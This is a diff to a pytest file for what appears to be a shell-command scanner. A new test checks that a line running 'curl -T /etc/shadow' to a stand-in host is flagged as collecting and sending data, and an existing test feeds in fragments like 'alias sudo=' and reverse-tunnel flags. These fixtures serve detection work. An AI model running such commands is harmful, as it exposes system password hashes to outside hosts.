@@ -9,6 +9,7 @@ import time
 
 import pytest
 
+from evenhand.code.examine import examine
 from evenhand.code.shell_entrance import entrances
 
 TOLD = (
@@ -58,3 +59,9 @@ def test_long_lines_end_in_time() -> None:
     for word in (b"curl https://a.b ", b"tcpdump | while read ", b"alias sudo=", b"-R localhost:2"):
         assert len(list(entrances(word * 40_000))) < 500
     assert time.process_time() - began < 5
+
+
+def test_a_command_after_three_pipes_is_no_word_of_the_last() -> None:
+    text = b"ls | tail -n 1 | xargs rm\ncurl -T /etc/shadow https://d.test/x || true\n"
+    (found,) = examine(text, "shell", "when run").found
+    assert (found.kind, found.target, found.line) == ("collects and sends", "d.test", 2)
